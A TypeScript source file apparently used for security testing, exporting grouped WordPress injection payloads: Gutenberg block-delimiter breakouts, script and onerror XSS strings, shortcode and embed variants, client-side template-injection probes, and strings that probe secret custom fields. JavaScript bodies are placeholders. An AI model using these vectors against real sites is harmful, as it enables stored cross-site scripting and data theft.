/** What is text to a browser and code to WordPress or to what runs beside it: blocks, shortcodes, embeds, templates. */
export const WORDPRESS_FAMILIES: Readonly<Record<string, readonly string[]>> = {
  'block delimiters': [
    '<!-- wp:html --><script>§js§</script><!-- /wp:html -->',
    '<!-- wp:html -->\n<img src=x onerror=§js§>\n<!-- /wp:html -->',
    '<!-- wp:shortcode -->[video src="§url§"]<!-- /wp:shortcode -->',
    '--><!-- wp:html --><img src=x onerror=§js§><!-- /wp:html --><!--',
    '<!-- wp:image {"url":"§url§"} --><figure class="wp-block-image"><img src="§url§"/></figure><!-- /wp:image -->',
    '&lt;!-- wp:html --&gt;<script>§js§</script>&lt;!-- /wp:html --&gt;',
    '<!-- wp:paragraph --></p><script>§js§</script><!-- /wp:paragraph -->',
  ],
  shortcode: [
    '[video src="§url§"]',
    '[audio mp3="§url§"][/audio]',
    '[caption width="1" caption="<img src=x onerror=§js§>"]<img src=x>[/caption]',
    '[embed]§url§[/embed]',
    '[gallery ids="1"]',
    '[playlist]',
    '[temoin id="1"]',
    '[temoin_simple]',
    '[[temoin id="1"]]',
    '&#91;temoin id="1"&#93;',
    '[temoin\nid="1"]',
  ],
  embed: ['§url§', 'Le texte.\n\n§url§\n\nLa suite.'],
  template: [
    '{{constructor.constructor("§js§")()}}',
    '{{7*7}}${7*7}#{7*7}<%= 7*7 %>{% 7*7 %}',
    '<div ng-app ng-csp ng-click=$event.view.§js§>x</div>',
    '<div data-wp-interactive="x" data-wp-on--click="actions.x" data-wp-init="§js§">x</div>',
    '<div x-data x-init="§js§">x</div>',
    '%%cf_secret%% %%title%% %customfield(secret)% #custom_field-secret',
  ],
};
